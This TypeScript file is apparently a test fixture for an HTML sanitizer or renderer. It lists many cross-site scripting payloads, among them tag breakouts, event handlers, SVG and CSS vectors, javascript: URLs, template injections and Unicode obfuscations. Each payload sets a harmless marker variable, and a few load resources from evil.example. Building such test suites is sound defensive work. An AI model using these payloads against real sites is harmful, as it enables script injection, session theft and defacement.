/** Texts that would act if a page took them for more than texts. Each of them tries to set `window.__pwned`. */
const act = 'window.__pwned=1';

const tags = [
  `<script>${act}</script>`,
  `<script src="data:text/javascript,${act}"></script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script/x>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `--><script>${act}</script>`,
  `]]><script>${act}</script>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<form action="javascript:${act}"><button autofocus>x</button></form>`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<xmp><script>${act}</script></xmp>`,
];

const carriers = [
  ['img', 'src=x', 'onerror'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['body', '', 'onload'],
  ['svg', '', 'onload'],
  ['details', 'open', 'ontoggle'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus tabindex=1', 'onfocus'],
  ['div', 'style=animation:x', 'onanimationstart'],
  ['marquee', '', 'onstart'],
  ['p', 'draggable=true', 'onpointerover'],
] as const;
const shapes = [
  (tag: string, attributes: string, event: string) => `<${tag} ${attributes} ${event}=${act}>`,
  (tag: string, attributes: string, event: string) => `"><${tag} ${attributes} ${event}="${act}">`,
  (tag: string, attributes: string, event: string) => `'><${tag}/${attributes}/${event}='${act}'//`,
];

const pictures = [
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${act}</script></svg>#x"></svg>`,
  `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to=${act}>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>">`,
  `<svg><style>*{background:url(javascript:${act})}</style></svg>`,
];

const styles = [
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>body{background:url("javascript:${act}")}</style>`,
  `<p style="background:url(javascript:${act})">x</p>`,
  `<p style="width:expression(${act})">x</p>`,
  `<p style="behavior:url(x.htc)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<div style="animation-name:x" onanimationend="${act}">x</div>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${act}"></b>`,
];

const addresses = [
  `<a href="javascript:${act}">x</a>`,
  `<a href="JaVaScRiPt:${act}">x</a>`,
  `<a href="java\tscript:${act}">x</a>`,
  `<a href="\u0001javascript:${act}">x</a>`,
  `<a href="&#106;avascript:${act}">x</a>`,
  `<a href="javascript&colon;${act}">x</a>`,
  `<a href="data:text/html,<script>${act}</script>">x</a>`,
  `<a href="vbscript:${act}">x</a>`,
  `[x](javascript:${act})`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
];

const templates = [
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `#{${act}}`,
  `<%= ${act} %>`,
  `{{7*7}}`,
  `$t(common:retry)`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${act}>"}}}`,
  `";${act};//`,
  `';${act};//`,
  `\\";${act};//`,
];

const signs = [
  `\u202e<script>${act}</script>`,
  `\u2066<img src=x onerror=${act}>\u2069`,
  `<\u017fcript>${act}</script>`,
  `＜script＞${act}＜/script＞`,
  `<script\u2028>${act}</script>`,
  `<img\u3000src=x\u3000onerror=${act}>`,
  `\ufeff<script>${act}</script>`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;img src=x onerror=${act}&#62;`,
  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `\u{1f600}\u200d<svg onload=${act}>`,
  `ſcript<ſcript>${act}</ſcript>`,
  `<a\u0300><script>${act}</script>`,
];

export const allPayloads: readonly string[] = [
  ...tags,
  ...carriers.flatMap(([tag, attributes, event]) => shapes.map((shape) => shape(tag, attributes, event))),
  ...pictures,
  ...styles,
  ...addresses,
  ...templates,
  ...signs,
];

/** Some of every kind; all of them with PAYLOADS=all, which takes minutes. */
export const payloads: readonly string[] =
  process.env['PAYLOADS'] === 'all' ? allPayloads : allPayloads.filter((_, index) => index % 6 === 0);
